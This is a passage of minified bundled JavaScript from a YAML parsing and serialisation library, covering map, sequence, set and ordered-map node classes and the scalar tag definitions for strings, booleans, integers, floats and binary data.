e.format)??n[0]}let s,r;if(Vs.isScalar(e)){r=e.value;let n=t.filter(o=>o.identify?.(r));if(n.length>1){let o=n.filter(i=>i.test);o.length>0&&(n=o)}s=n.find(o=>o.
format===e.format)??n.find(o=>!o.format)}else r=e,s=t.find(n=>n.nodeClass&&r instanceof n.nodeClass);if(!s){let n=r?.constructor?.name??(r===null?"null":typeof r);
throw new Error(`Tag not resolved for ${n} value`)}return s}function nC(t,e,{anchors:s,doc:r}){if(!r.directives)return"";let n=[],o=(Vs.isScalar(t)||Vs.isCollection(
t))&&t.anchor;o&&Z1.anchorIsValid(o)&&(s.add(o),n.push(`&${o}`));let i=t.tag??(e.default?null:e.tag);return i&&n.push(r.directives.tagString(i)),n.join(" ")}function oC(t,e,s,r){
if(Vs.isPair(t))return t.toString(e,s,r);if(Vs.isAlias(t)){if(e.doc.directives)return t.toString(e);if(e.resolvedAliases?.has(t))throw new TypeError("Cannot str\
ingify circular structure without alias nodes");e.resolvedAliases?e.resolvedAliases.add(t):e.resolvedAliases=new Set([t]),t=t.resolve(e.doc)}let n,o=Vs.isNode(t)?
t:e.doc.createNode(t,{onTagObj:l=>n=l});n??(n=rC(e.doc.schema.tags,o));let i=nC(o,n,e);i.length>0&&(e.indentAtStart=(e.indentAtStart??0)+i.length+1);let a=typeof n.
stringify=="function"?n.stringify(o,e,s,r):Vs.isScalar(o)?tC.stringifyString(o,e,s,r):o.toString(e,s,r);return i?Vs.isScalar(o)||a[0]==="{"||a[0]==="["?`${i} ${a}`:
`${i}
${e.indent}${a}`:a}xd.createStringifyContext=sC;xd.stringify=oC});var ib=L(ob=>{"use strict";var $s=se(),rb=Re(),nb=io(),ao=so();function iC({key:t,value:e},s,r,n){let{allNullValues:o,doc:i,indent:a,indentStep:l,options:{commentString:c,
indentSeq:d,simpleKeys:u}}=s,p=$s.isNode(t)&&t.comment||null;if(u){if(p)throw new Error("With simple keys, key nodes cannot have comments");if($s.isCollection(t)||
!$s.isNode(t)&&typeof t=="object"){let q="With simple keys, collection cannot be used as a key value";throw new Error(q)}}let f=!u&&(!t||p&&e==null&&!s.inFlow||
$s.isCollection(t)||($s.isScalar(t)?t.type===rb.Scalar.BLOCK_FOLDED||t.type===rb.Scalar.BLOCK_LITERAL:typeof t=="object"));s=Object.assign({},s,{allNullValues:!1,
implicitKey:!f&&(u||!o),indent:a+l});let m=!1,h=!1,g=nb.stringify(t,s,()=>m=!0,()=>h=!0);if(!f&&!s.inFlow&&g.length>1024){if(u)throw new Error("With simple keys\
, single line scalar must not span more than 1024 characters");f=!0}if(s.inFlow){if(o||e==null)return m&&r&&r(),g===""?"?":f?`? ${g}`:g}else if(o&&!u||e==null&&
f)return g=`? ${g}`,p&&!m?g+=ao.lineComment(g,s.indent,c(p)):h&&n&&n(),g;m&&(p=null),f?(p&&(g+=ao.lineComment(g,s.indent,c(p))),g=`? ${g}
${a}:`):(g=`${g}:`,p&&(g+=ao.lineComment(g,s.indent,c(p))));let y,x,$;$s.isNode(e)?(y=!!e.spaceBefore,x=e.commentBefore,$=e.comment):(y=!1,x=null,$=null,e&&typeof e==
"object"&&(e=i.createNode(e))),s.implicitKey=!1,!f&&!p&&$s.isScalar(e)&&(s.indentAtStart=g.length+1),h=!1,!d&&l.length>=2&&!s.inFlow&&!f&&$s.isSeq(e)&&!e.flow&&
!e.tag&&!e.anchor&&(s.indent=s.indent.substring(2));let C=!1,_=nb.stringify(e,s,()=>C=!0,()=>h=!0),T=" ";if(p||y||x){if(T=y?`
`:"",x){let q=c(x);T+=`
${ao.indentComment(q,s.indent)}`}_===""&&!s.inFlow?T===`
`&&$&&(T=`

`):T+=`
${s.indent}`}else if(!f&&$s.isCollection(e)){let q=_[0],P=_.indexOf(`
`),N=P!==-1,D=s.inFlow??e.flow??e.items.length===0;if(N||!D){let ve=!1;if(N&&(q==="&"||q==="!")){let F=_.indexOf(" ");q==="&"&&F!==-1&&F<P&&_[F+1]==="!"&&(F=_.indexOf(
" ",F+1)),(F===-1||P<F)&&(ve=!0)}ve||(T=`
${s.indent}`)}}else(_===""||_[0]===`
`)&&(T="");return g+=T+_,s.inFlow?C&&r&&r():$&&!C?g+=ao.lineComment(g,s.indent,c($)):h&&n&&n(),g}ob.stringifyPair=iC});var _d=L($d=>{"use strict";var ab=require("process");function aC(t,...e){t==="debug"&&console.log(...e)}function lC(t,e){(t==="debug"||t==="warn")&&(typeof ab.emitWarning==
"function"?ab.emitWarning(e):console.warn(e))}$d.debug=aC;$d.warn=lC});var _a=L($a=>{"use strict";var xa=se(),lb=Re(),ka="<<",va={identify:t=>t===ka||typeof t=="symbol"&&t.description===ka,default:"key",tag:"tag:yaml.org,2002:merge",
test:/^<<$/,resolve:()=>Object.assign(new lb.Scalar(Symbol(ka)),{addToJSMap:cb}),stringify:()=>ka},cC=(t,e)=>(va.identify(e)||xa.isScalar(e)&&(!e.type||e.type===
lb.Scalar.PLAIN)&&va.identify(e.value))&&t?.doc.schema.tags.some(s=>s.tag===va.tag&&s.default);function cb(t,e,s){let r=db(t,s);if(xa.isSeq(r))for(let n of r.items)
Sd(t,e,n);else if(Array.isArray(r))for(let n of r)Sd(t,e,n);else Sd(t,e,r)}function Sd(t,e,s){let r=db(t,s);if(!xa.isMap(r))throw new Error("Merge sources must \
be maps or map aliases");let n=r.toJSON(null,t,Map);for(let[o,i]of n)e instanceof Map?e.has(o)||e.set(o,i):e instanceof Set?e.add(o):Object.prototype.hasOwnProperty.
call(e,o)||Object.defineProperty(e,o,{value:i,writable:!0,enumerable:!0,configurable:!0});return e}function db(t,e){return t&&xa.isAlias(e)?e.resolve(t.doc,t):e}
$a.addMergeToJSMap=cb;$a.isMergeKey=cC;$a.merge=va});var Ed=L(fb=>{"use strict";var dC=_d(),ub=_a(),uC=io(),pb=se(),Cd=Ms();function pC(t,e,{key:s,value:r}){if(pb.isNode(s)&&s.addToJSMap)s.addToJSMap(t,e,r);else if(ub.
isMergeKey(t,s))ub.addMergeToJSMap(t,e,r);else{let n=Cd.toJS(s,"",t);if(e instanceof Map)e.set(n,Cd.toJS(r,n,t));else if(e instanceof Set)e.add(n);else{let o=fC(
s,n,t),i=Cd.toJS(r,o,t);o in e?Object.defineProperty(e,o,{value:i,writable:!0,enumerable:!0,configurable:!0}):e[o]=i}}return e}function fC(t,e,s){if(e===null)return"";
if(typeof e!="object")return String(e);if(pb.isNode(t)&&s?.doc){let r=uC.createStringifyContext(s.doc,{});r.anchors=new Set;for(let o of s.anchors.keys())r.anchors.
add(o.anchor);r.inFlow=!0,r.inStringifyKey=!0;let n=t.toString(r);if(!s.mapKeyWarned){let o=JSON.stringify(n);o.length>40&&(o=o.substring(0,36)+'..."'),dC.warn(
s.doc.options.logLevel,`Keys with collection values will be stringified due to JS Object restrictions: ${o}. Set mapAsMap: true to use object keys.`),s.mapKeyWarned=
!0}return n}return JSON.stringify(e)}fb.addPairToJSMap=pC});var Hs=L(Ad=>{"use strict";var mb=to(),mC=ib(),hC=Ed(),Sa=se();function gC(t,e,s){let r=mb.createNode(t,void 0,s),n=mb.createNode(e,void 0,s);return new Ca(r,n)}
var Ca=class t{constructor(e,s=null){Object.defineProperty(this,Sa.NODE_TYPE,{value:Sa.PAIR}),this.key=e,this.value=s}clone(e){let{key:s,value:r}=this;return Sa.
isNode(s)&&(s=s.clone(e)),Sa.isNode(r)&&(r=r.clone(e)),new t(s,r)}toJSON(e,s){let r=s?.mapAsMap?new Map:{};return hC.addPairToJSMap(s,r,this)}toString(e,s,r){return e?.
doc?mC.stringifyPair(this,e,s,r):JSON.stringify(this)}};Ad.Pair=Ca;Ad.createPair=gC});var Td=L(gb=>{"use strict";var xr=se(),hb=io(),Ea=so();function bC(t,e,s){return(e.inFlow??t.flow?wC:yC)(t,e,s)}function yC({comment:t,items:e},s,{blockItemPrefix:r,
flowChars:n,itemIndent:o,onChompKeep:i,onComment:a}){let{indent:l,options:{commentString:c}}=s,d=Object.assign({},s,{indent:o,type:null}),u=!1,p=[];for(let m=0;m<
e.length;++m){let h=e[m],g=null;if(xr.isNode(h))!u&&h.spaceBefore&&p.push(""),Aa(s,p,h.commentBefore,u),h.comment&&(g=h.comment);else if(xr.isPair(h)){let x=xr.
isNode(h.key)?h.key:null;x&&(!u&&x.spaceBefore&&p.push(""),Aa(s,p,x.commentBefore,u))}u=!1;let y=hb.stringify(h,d,()=>g=null,()=>u=!0);g&&(y+=Ea.lineComment(y,o,
c(g))),u&&g&&(u=!1),p.push(r+y)}let f;if(p.length===0)f=n.start+n.end;else{f=p[0];for(let m=1;m<p.length;++m){let h=p[m];f+=h?`
${l}${h}`:`
`}}return t?(f+=`
`+Ea.indentComment(c(t),l),a&&a()):u&&i&&i(),f}function wC({items:t},e,{flowChars:s,itemIndent:r}){let{indent:n,indentStep:o,flowCollectionPadding:i,options:{commentString:a}}=e;
r+=o;let l=Object.assign({},e,{indent:r,inFlow:!0,type:null}),c=!1,d=0,u=[];for(let m=0;m<t.length;++m){let h=t[m],g=null;if(xr.isNode(h))h.spaceBefore&&u.push(
""),Aa(e,u,h.commentBefore,!1),h.comment&&(g=h.comment);else if(xr.isPair(h)){let x=xr.isNode(h.key)?h.key:null;x&&(x.spaceBefore&&u.push(""),Aa(e,u,x.commentBefore,
!1),x.comment&&(c=!0));let $=xr.isNode(h.value)?h.value:null;$?($.comment&&(g=$.comment),$.commentBefore&&(c=!0)):h.value==null&&x?.comment&&(g=x.comment)}g&&(c=
!0);let y=hb.stringify(h,l,()=>g=null);c||(c=u.length>d||y.includes(`
`)),m<t.length-1?y+=",":e.options.trailingComma&&(e.options.lineWidth>0&&(c||(c=u.reduce((x,$)=>x+$.length+2,2)+(y.length+2)>e.options.lineWidth)),c&&(y+=",")),
g&&(y+=Ea.lineComment(y,r,a(g))),u.push(y),d=u.length}let{start:p,end:f}=s;if(u.length===0)return p+f;if(!c){let m=u.reduce((h,g)=>h+g.length+2,2);c=e.options.lineWidth>
0&&m>e.options.lineWidth}if(c){let m=p;for(let h of u)m+=h?`
${o}${n}${h}`:`
`;return`${m}
${n}${f}`}else return`${p}${i}${u.join(" ")}${i}${f}`}function Aa({indent:t,options:{commentString:e}},s,r,n){if(r&&n&&(r=r.replace(/^\n+/,"")),r){let o=Ea.indentComment(
e(r),t);s.push(o.trimStart())}}gb.stringifyCollection=bC});var zs=L(Rd=>{"use strict";var kC=Td(),vC=Ed(),xC=ma(),Bs=se(),Ta=Hs(),$C=Re();function lo(t,e){let s=Bs.isScalar(e)?e.value:e;for(let r of t)if(Bs.isPair(r)&&(r.
key===e||r.key===s||Bs.isScalar(r.key)&&r.key.value===s))return r}var Pd=class extends xC.Collection{static get tagName(){return"tag:yaml.org,2002:map"}constructor(e){
super(Bs.MAP,e),this.items=[]}static from(e,s,r){let{keepUndefined:n,replacer:o}=r,i=new this(e),a=(l,c)=>{if(typeof o=="function")c=o.call(s,l,c);else if(Array.
isArray(o)&&!o.includes(l))return;(c!==void 0||n)&&i.items.push(Ta.createPair(l,c,r))};if(s instanceof Map)for(let[l,c]of s)a(l,c);else if(s&&typeof s=="object")
for(let l of Object.keys(s))a(l,s[l]);return typeof e.sortMapEntries=="function"&&i.items.sort(e.sortMapEntries),i}add(e,s){let r;Bs.isPair(e)?r=e:!e||typeof e!=
"object"||!("key"in e)?r=new Ta.Pair(e,e?.value):r=new Ta.Pair(e.key,e.value);let n=lo(this.items,r.key),o=this.schema?.sortMapEntries;if(n){if(!s)throw new Error(
`Key ${r.key} already set`);Bs.isScalar(n.value)&&$C.isScalarValue(r.value)?n.value.value=r.value:n.value=r.value}else if(o){let i=this.items.findIndex(a=>o(r,a)<
0);i===-1?this.items.push(r):this.items.splice(i,0,r)}else this.items.push(r)}delete(e){let s=lo(this.items,e);return s?this.items.splice(this.items.indexOf(s),
1).length>0:!1}get(e,s){let n=lo(this.items,e)?.value;return(!s&&Bs.isScalar(n)?n.value:n)??void 0}has(e){return!!lo(this.items,e)}set(e,s){this.add(new Ta.Pair(
e,s),!0)}toJSON(e,s,r){let n=r?new r:s?.mapAsMap?new Map:{};s?.onCreate&&s.onCreate(n);for(let o of this.items)vC.addPairToJSMap(s,n,o);return n}toString(e,s,r){
if(!e)return JSON.stringify(this);for(let n of this.items)if(!Bs.isPair(n))throw new Error(`Map items must all be pairs; found ${JSON.stringify(n)} instead`);return!e.
allNullValues&&this.hasAllNullValues(!1)&&(e=Object.assign({},e,{allNullValues:!0})),kC.stringifyCollection(this,e,{blockItemPrefix:"",flowChars:{start:"{",end:"\
}"},itemIndent:e.indent||"",onChompKeep:r,onComment:s})}};Rd.YAMLMap=Pd;Rd.findPair=lo});var an=L(yb=>{"use strict";var _C=se(),bb=zs(),SC={collection:"map",default:!0,nodeClass:bb.YAMLMap,tag:"tag:yaml.org,2002:map",resolve(t,e){return _C.isMap(t)||
e("Expected a mapping for this tag"),t},createNode:(t,e,s)=>bb.YAMLMap.from(t,e,s)};yb.map=SC});var Gs=L(wb=>{"use strict";var CC=to(),EC=Td(),AC=ma(),Ra=se(),TC=Re(),PC=Ms(),Id=class extends AC.Collection{static get tagName(){return"tag:yaml.org,2002:seq"}constructor(e){
super(Ra.SEQ,e),this.items=[]}add(e){this.items.push(e)}delete(e){let s=Pa(e);return typeof s!="number"?!1:this.items.splice(s,1).length>0}get(e,s){let r=Pa(e);
if(typeof r!="number")return;let n=this.items[r];return!s&&Ra.isScalar(n)?n.value:n}has(e){let s=Pa(e);return typeof s=="number"&&s<this.items.length}set(e,s){let r=Pa(
e);if(typeof r!="number")throw new Error(`Expected a valid index, not ${e}.`);let n=this.items[r];Ra.isScalar(n)&&TC.isScalarValue(s)?n.value=s:this.items[r]=s}toJSON(e,s){
let r=[];s?.onCreate&&s.onCreate(r);let n=0;for(let o of this.items)r.push(PC.toJS(o,String(n++),s));return r}toString(e,s,r){return e?EC.stringifyCollection(this,
e,{blockItemPrefix:"- ",flowChars:{start:"[",end:"]"},itemIndent:(e.indent||"")+"  ",onChompKeep:r,onComment:s}):JSON.stringify(this)}static from(e,s,r){let{replacer:n}=r,
o=new this(e);if(s&&Symbol.iterator in Object(s)){let i=0;for(let a of s){if(typeof n=="function"){let l=s instanceof Set?a:String(i++);a=n.call(s,l,a)}o.items.
push(CC.createNode(a,void 0,r))}}return o}};function Pa(t){let e=Ra.isScalar(t)?t.value:t;return e&&typeof e=="string"&&(e=Number(e)),typeof e=="number"&&Number.
isInteger(e)&&e>=0?e:null}wb.YAMLSeq=Id});var ln=L(vb=>{"use strict";var RC=se(),kb=Gs(),IC={collection:"seq",default:!0,nodeClass:kb.YAMLSeq,tag:"tag:yaml.org,2002:seq",resolve(t,e){return RC.isSeq(t)||
e("Expected a sequence for this tag"),t},createNode:(t,e,s)=>kb.YAMLSeq.from(t,e,s)};vb.seq=IC});var co=L(xb=>{"use strict";var qC=oo(),OC={identify:t=>typeof t=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:t=>t,stringify(t,e,s,r){return e=Object.
assign({actualString:!0},e),qC.stringifyString(t,e,s,r)}};xb.string=OC});var Ia=L(Sb=>{"use strict";var $b=Re(),_b={identify:t=>t==null,createNode:()=>new $b.Scalar(null),default:!0,tag:"tag:yaml.org,2002:null",test:/^(?:~|[Nn]ull|NULL)?$/,
resolve:()=>new $b.Scalar(null),stringify:({source:t},e)=>typeof t=="string"&&_b.test.test(t)?t:e.options.nullStr};Sb.nullTag=_b});var qd=L(Eb=>{"use strict";var NC=Re(),Cb={identify:t=>typeof t=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,resolve:t=>new NC.
Scalar(t[0]==="t"||t[0]==="T"),stringify({source:t,value:e},s){if(t&&Cb.test.test(t)){let r=t[0]==="t"||t[0]==="T";if(e===r)return t}return e?s.options.trueStr:
s.options.falseStr}};Eb.boolTag=Cb});var cn=L(Ab=>{"use strict";function LC({format:t,minFractionDigits:e,tag:s,value:r}){if(typeof r=="bigint")return String(r);let n=typeof r=="number"?r:Number(r);
if(!isFinite(n))return isNaN(n)?".nan":n<0?"-.inf":".inf";let o=Object.is(r,-0)?"-0":JSON.stringify(r);if(!t&&e&&(!s||s==="tag:yaml.org,2002:float")&&/^-?\d/.test(
o)&&!o.includes("e")){let i=o.indexOf(".");i<0&&(i=o.length,o+=".");let a=e-(o.length-i-1);for(;a-- >0;)o+="0"}return o}Ab.stringifyNumber=LC});var Nd=L(qa=>{"use strict";var DC=Re(),Od=cn(),jC={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
resolve:t=>t.slice(-3).toLowerCase()==="nan"?NaN:t[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:Od.stringifyNumber},WC={identify:t=>typeof t==
"number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,resolve:t=>parseFloat(t),stringify(t){
let e=Number(t.value);return isFinite(e)?e.toExponential():Od.stringifyNumber(t)}},MC={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
resolve(t){let e=new DC.Scalar(parseFloat(t)),s=t.indexOf(".");return s!==-1&&t[t.length-1]==="0"&&(e.minFractionDigits=t.length-s-1),e},stringify:Od.stringifyNumber};
qa.float=MC;qa.floatExp=WC;qa.floatNaN=jC});var Dd=L(Na=>{"use strict";var Tb=cn(),Oa=t=>typeof t=="bigint"||Number.isInteger(t),Ld=(t,e,s,{intAsBigInt:r})=>r?BigInt(t):parseInt(t.substring(e),s);function Pb(t,e,s){
let{value:r}=t;return Oa(r)&&r>=0?s+r.toString(e):Tb.stringifyNumber(t)}var FC={identify:t=>Oa(t)&&t>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^0o[0-7]+$/,
resolve:(t,e,s)=>Ld(t,2,8,s),stringify:t=>Pb(t,8,"0o")},UC={identify:Oa,default:!0,tag:"tag:yaml.org,2002:int",test:/^[-+]?[0-9]+$/,resolve:(t,e,s)=>Ld(t,0,10,s),
stringify:Tb.stringifyNumber},VC={identify:t=>Oa(t)&&t>=0,default:!0,tag:"tag:yaml.org,2002:int",format:"HEX",test:/^0x[0-9a-fA-F]+$/,resolve:(t,e,s)=>Ld(t,2,16,
s),stringify:t=>Pb(t,16,"0x")};Na.int=UC;Na.intHex=VC;Na.intOct=FC});var Ib=L(Rb=>{"use strict";var HC=an(),BC=Ia(),zC=ln(),GC=co(),KC=qd(),jd=Nd(),Wd=Dd(),YC=[HC.map,zC.seq,GC.string,BC.nullTag,KC.boolTag,Wd.intOct,Wd.int,Wd.intHex,
jd.floatNaN,jd.floatExp,jd.float];Rb.schema=YC});var Nb=L(Ob=>{"use strict";var QC=Re(),XC=an(),JC=ln();function qb(t){return typeof t=="bigint"||Number.isInteger(t)}var La=({value:t})=>JSON.stringify(t),ZC=[{
identify:t=>typeof t=="string",default:!0,tag:"tag:yaml.org,2002:str",resolve:t=>t,stringify:La},{identify:t=>t==null,createNode:()=>new QC.Scalar(null),default:!0,
tag:"tag:yaml.org,2002:null",test:/^null$/,resolve:()=>null,stringify:La},{identify:t=>typeof t=="boolean",default:!0,tag:"tag:yaml.org,2002:bool",test:/^true$|^false$/,
resolve:t=>t==="true",stringify:La},{identify:qb,default:!0,tag:"tag:yaml.org,2002:int",test:/^-?(?:0|[1-9][0-9]*)$/,resolve:(t,e,{intAsBigInt:s})=>s?BigInt(t):
parseInt(t,10),stringify:({value:t})=>qb(t)?t.toString():JSON.stringify(t)},{identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
resolve:t=>parseFloat(t),stringify:La}],eE={default:!0,tag:"",test:/^/,resolve(t,e){return e(`Unresolved plain scalar ${JSON.stringify(t)}`),t}},tE=[XC.map,JC.seq].
concat(ZC,eE);Ob.schema=tE});var Fd=L(Lb=>{"use strict";var uo=require("buffer"),Md=Re(),sE=oo(),rE={identify:t=>t instanceof Uint8Array,default:!1,tag:"tag:yaml.org,2002:binary",resolve(t,e){
if(typeof uo.Buffer=="function")return uo.Buffer.from(t,"base64");if(typeof atob=="function"){let s=atob(t.replace(/[\n\r]/g,"")),r=new Uint8Array(s.length);for(let n=0;n<
s.length;++n)r[n]=s.charCodeAt(n);return r}else return e("This environment does not support reading binary tags; either Buffer or atob is required"),t},stringify({
comment:t,type:e,value:s},r,n,o){if(!s)return"";let i=s,a;if(typeof uo.Buffer=="function")a=i instanceof uo.Buffer?i.toString("base64"):uo.Buffer.from(i.buffer).
toString("base64");else if(typeof btoa=="function"){let l="";for(let c=0;c<i.length;++c)l+=String.fromCharCode(i[c]);a=btoa(l)}else throw new Error("This enviro\
nment does not support writing binary tags; either Buffer or btoa is required");if(e??(e=Md.Scalar.BLOCK_LITERAL),e!==Md.Scalar.QUOTE_DOUBLE){let l=Math.max(r.options.
lineWidth-r.indent.length,r.options.minContentWidth),c=Math.ceil(a.length/l),d=new Array(c);for(let u=0,p=0;u<c;++u,p+=l)d[u]=a.substr(p,l);a=d.join(e===Md.Scalar.
BLOCK_LITERAL?`
`:" ")}return sE.stringifyString({comment:t,type:e,value:a},r,n,o)}};Lb.binary=rE});var Wa=L(ja=>{"use strict";var Da=se(),Ud=Hs(),nE=Re(),oE=Gs();function Db(t,e){if(Da.isSeq(t))for(let s=0;s<t.items.length;++s){let r=t.items[s];if(!Da.isPair(
r)){if(Da.isMap(r)){r.items.length>1&&e("Each pair must have its own sequence indicator");let n=r.items[0]||new Ud.Pair(new nE.Scalar(null));if(r.commentBefore&&
(n.key.commentBefore=n.key.commentBefore?`${r.commentBefore}
${n.key.commentBefore}`:r.commentBefore),r.comment){let o=n.value??n.key;o.comment=o.comment?`${r.comment}
${o.comment}`:r.comment}r=n}t.items[s]=Da.isPair(r)?r:new Ud.Pair(r)}}else e("Expected a sequence for this tag");return t}function jb(t,e,s){let{replacer:r}=s,n=new oE.
YAMLSeq(t);n.tag="tag:yaml.org,2002:pairs";let o=0;if(e&&Symbol.iterator in Object(e))for(let i of e){typeof r=="function"&&(i=r.call(e,String(o++),i));let a,l;
if(Array.isArray(i))if(i.length===2)a=i[0],l=i[1];else throw new TypeError(`Expected [key, value] tuple: ${i}`);else if(i&&i instanceof Object){let c=Object.keys(
i);if(c.length===1)a=c[0],l=i[a];else throw new TypeError(`Expected tuple with one key, not ${c.length} keys`)}else a=i;n.items.push(Ud.createPair(a,l,s))}return n}
var iE={collection:"seq",default:!1,tag:"tag:yaml.org,2002:pairs",resolve:Db,createNode:jb};ja.createPairs=jb;ja.pairs=iE;ja.resolvePairs=Db});var Bd=L(Hd=>{"use strict";var Wb=se(),Vd=Ms(),po=zs(),aE=Gs(),Mb=Wa(),$r=class t extends aE.YAMLSeq{constructor(){super(),this.add=po.YAMLMap.prototype.add.bind(
this),this.delete=po.YAMLMap.prototype.delete.bind(this),this.get=po.YAMLMap.prototype.get.bind(this),this.has=po.YAMLMap.prototype.has.bind(this),this.set=po.YAMLMap.
prototype.set.bind(this),this.tag=t.tag}toJSON(e,s){if(!s)return super.toJSON(e);let r=new Map;s?.onCreate&&s.onCreate(r);for(let n of this.items){let o,i;if(Wb.
isPair(n)?(o=Vd.toJS(n.key,"",s),i=Vd.toJS(n.value,o,s)):o=Vd.toJS(n,"",s),r.has(o))throw new Error("Ordered maps must not include duplicate keys");r.set(o,i)}return r}static from(e,s,r){
let n=Mb.createPairs(e,s,r),o=new this;return o.items=n.items,o}};$r.tag="tag:yaml.org,2002:omap";var lE={collection:"seq",identify:t=>t instanceof Map,nodeClass:$r,
default:!1,tag:"tag:yaml.org,2002:omap",resolve(t,e){let s=Mb.resolvePairs(t,e),r=[];for(let{key:n}of s.items)Wb.isScalar(n)&&(r.includes(n.value)?e(`Ordered ma\
ps must not include duplicate keys: ${n.value}`):r.push(n.value));return Object.assign(new $r,s)},createNode:(t,e,s)=>$r.from(t,e,s)};Hd.YAMLOMap=$r;Hd.omap=lE});var Bb=L(zd=>{"use strict";var Fb=Re();function Ub({value:t,source:e},s){return e&&(t?Vb:Hb).test.test(e)?e:t?s.options.trueStr:s.options.falseStr}var Vb={identify:t=>t===
!0,default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:Y|y|[Yy]es|YES|[Tt]rue|TRUE|[Oo]n|ON)$/,resolve:()=>new Fb.Scalar(!0),stringify:Ub},Hb={identify:t=>t===!1,
default:!0,tag:"tag:yaml.org,2002:bool",test:/^(?:N|n|[Nn]o|NO|[Ff]alse|FALSE|[Oo]ff|OFF)$/,resolve:()=>new Fb.Scalar(!1),stringify:Ub};zd.falseTag=Hb;zd.trueTag=
Vb});var zb=L(Ma=>{"use strict";var cE=Re(),Gd=cn(),dE={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml.org,2002:float",test:/^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
resolve:t=>t.slice(-3).toLowerCase()==="nan"?NaN:t[0]==="-"?Number.NEGATIVE_INFINITY:Number.POSITIVE_INFINITY,stringify:Gd.stringifyNumber},uE={identify:t=>typeof t==
"number",default:!0,tag:"tag:yaml.org,2002:float",format:"EXP",test:/^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,resolve:t=>parseFloat(t.replace(/_/g,
"")),stringify(t){let e=Number(t.value);return isFinite(e)?e.toExponential():Gd.stringifyNumber(t)}},pE={identify:t=>typeof t=="number",default:!0,tag:"tag:yaml\
.org,2002:float",test:/^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,resolve(t){let e=new cE.Scalar(parseFloat(t.replace(/_/g,""))),s=t.indexOf(".");if(s!==-1){let r=t.substring(
s+1).replace(/_/g,"");r[r.length-1]==="0"&&(e.minFractionDigits=r.length)}return e},stringify:Gd.stringifyNumber};Ma.float=pE;Ma.floatExp=uE;Ma.floatNaN=dE});var Kb=L(mo=>{"use strict";var Gb=cn(),fo=t=>typeof t=="bigint"||Number.isInteger(t);function Fa(t,e,s,{intAsBigInt:r}){let n=t[0];if((n==="-"||n==="+")&&(e+=1),
t=t.substring(e).replace(/_/g,""),r){switch(s){case 2:t=`0b${t}`;break;case 8:t=`0o${t}`;break;case 16:t=`0x${t}`;break}let i=BigInt(t);return n==="-"?BigInt(-1)*
i:i}let o=parseInt(t,s);return n==="-"?-1*o:o}function Kd(t,e,s){let{value:r}=t;if(fo(r)){let n=r.toString(e);return r<0?"-"+s+n.substr(1):s+n}return Gb.stringifyNumber(
t)}var fE={identify:fo,default:!0,tag:"tag:yaml.org,2002:int",format:"BIN",test:/^[-+]?0b[0-1_]+$/,resolve:(t,e,s)=>Fa(t,2,2,s),stringify:t=>Kd(t,2,"0b")},mE={identify:fo,
default:!0,tag:"tag:yaml.org,2002:int",format:"OCT",test:/^[-+]?0[0-7_]+$/,resolve:(t,e,s)=>Fa(t,1,8,s),stringify:t=>Kd(t,8,"0")},hE={identify:fo,default:!0,tag:"\
tag:yaml.org,2002:int",test:/^[-+]?[0-9][0-9_]*$/,resolve:(t,e,s)=>Fa(t,0,10,s),stringify:Gb.stringifyNumber},gE={identify:fo,default:!0,tag:"tag:yaml.org,2002:\
int",format:"HEX",test:/^[-+]?0x[0-9a-fA-F_]+$/,resolve:(t,e,s)=>Fa(t,2,16,s),stringify:t=>Kd(t,16,"0x")};mo.int=hE;mo.intBin=fE;mo.intHex=gE;mo.intOct=mE});var Qd=L(Yd=>{"use strict";var Ha=se(),Ua=Hs(),Va=zs(),_r=class t extends Va.YAMLMap{constructor(e){super(e),this.tag=t.tag}add(e){let s;Ha.isPair(e)?s=e:e&&typeof e==
"object"&&"key"in e&&"value"in e&&e.value===null?s=new Ua.Pair(e.key,null):s=new Ua.Pair(e,null),Va.findPair(this.items,s.key)||this.items.push(s)}get(e,s){let r=Va.
findPair(this.items,e);return!s&&Ha.isPair(r)?Ha.isScalar(r.key)?r.key.value:r.key:r}set(e,s){if(typeof s!="boolean")throw new Error(`Expected boolean value for\
 set(key, value) in a YAML set, not ${typeof s}`);let r=Va.findPair(this.items,e);r&&!s?this.items.splice(this.items.indexOf(r),1):!r&&s&&this.items.push(new Ua.
Pair(e))}toJSON(e,s){return super.toJSON(e,s,Set)}toString(e,s,r){if(!e)return JSON.stringify(this);if(this.hasAllNullValues(!0))return super.toString(Object.assign(
{},e,{allNullValues:!0}),s,r);throw new Error("Set items must all have null values")}static from(e,s,r){let{replacer:n}=r,o=new this(e);if(s&&Symbol.iterator in
Object(s))for(let i of s)typeof n=="function"&&(i=n.call(s,i,i)),o.items.push(Ua.createPair(i,null,r));return o}};_r.tag="tag:yaml.org,2002:set";var bE={collection:"\
map",identify:t=>t instanceof Set,nodeClass:_r,default:!1,tag:"tag:yaml.org,2002:set",createNode:(t,e,s)=>_r.from(t,e,s),resolve(t,e){if(Ha.isMap(t)){if(t.hasAllNullValues(
!0))return Object.assign(new _r,t);e("Set items must all have null values")}else e("Expected a mapping for this tag");return t}};Yd.YAMLSet=_r;Yd.set=bE});var Jd=L(Ba=>{"use strict";var yE=cn();function Xd(t,e){let s=t[0],r=s==="-"||s==="+"?t.substring(1):t,n=i=>e?BigInt(i):Number(i),o=r.replace(/_/g,"").split(":").
